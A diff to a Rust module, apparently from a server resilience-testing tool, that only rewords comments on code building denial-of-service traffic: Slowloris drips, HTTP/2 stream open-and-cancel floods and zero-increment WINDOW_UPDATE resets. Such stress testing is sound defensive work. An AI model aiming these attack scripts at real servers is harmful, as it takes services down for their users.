@@ -1,4 +1,4 @@
-//! What each attack sends: how its connections begin, and what follows for as long as they last.
+//! The bytes that each attack sends.
 
 use std::time::Duration;
 
@@ -8,22 +8,21 @@ use super::frames::{self, ACK, END_HEADERS, END_STREAM, GET, INITIAL_WINDOW_SIZE
 /// Requests, streams or frames in one write.
 const BURST: u32 = 1000;
 
-/// Streams of which a server says that it takes more at once (RFC 9113, 6.5.2).
+/// Below SETTINGS_MAX_CONCURRENT_STREAMS of any server (RFC 9113, 6.5.2).
 const FEW_STREAMS: u32 = 100;
 
-/// What a slow sender waits between two bytes. A server's patience is to be longer, so that its limits, and not its
-/// idleness, are what ends this.
+/// The pause of a slow client between two bytes, shorter than a server's idle timeout.
 const DRIP: Duration = Duration::from_millis(250);
 
-/// What one connection of an attack does.
+/// What one connection of an attack sends.
 pub(super) struct Script {
     /// Its first bytes.
     pub(super) opening: Vec<u8>,
-    /// The bytes of its n-th write after that; `None` is to say no more and wait.
+    /// The bytes of its n-th write after that; `None` is to wait.
     pub(super) next: fn(u32) -> Option<Vec<u8>>,
     /// From one write to the next.
     pub(super) pause: Duration,
-    /// Whether what comes back is read.
+    /// Whether responses are read.
     pub(super) reads: bool,
 }
 
@@ -31,7 +30,7 @@ impl Script {
     pub(super) fn of(attack: Attack) -> Self {
         let flood = |opening: Vec<u8>, next| Self { opening, next, pause: Duration::ZERO, reads: true };
         let drip = |opening: &[u8], next| Self { opening: opening.to_vec(), next, pause: DRIP, reads: true };
-        // With a request under way the connection is not idle, and a server cannot end it for that.
+        // With a request under way the connection is not idle.
         let busy = || [frames::opening(&[]), frames::headers(1, 0, POST)].concat();
         match attack {
             Attack::Slowloris => drip(b"POST /v1/payloads HTTP/1.1\r\nHost: x\r\n", |at| {
@@ -53,7 +52,7 @@ impl Script {
                     [frames::headers(stream, END_STREAM, GET), frames::cancel(stream)].concat()
                 }))
             }),
-            // An increment of nothing is an error of the stream, which the server has to reset (RFC 9113, 6.9).
+            // An increment of 0 is a stream error: the server has to reset the stream (RFC 9113, 6.9).
             Attack::MadeYouReset => flood(frames::opening(&[]), |at| {
                 Some(burst(at, BURST, |stream| {
                     [frames::headers(stream, 0, POST), frames::window_update(stream, 0)].concat()
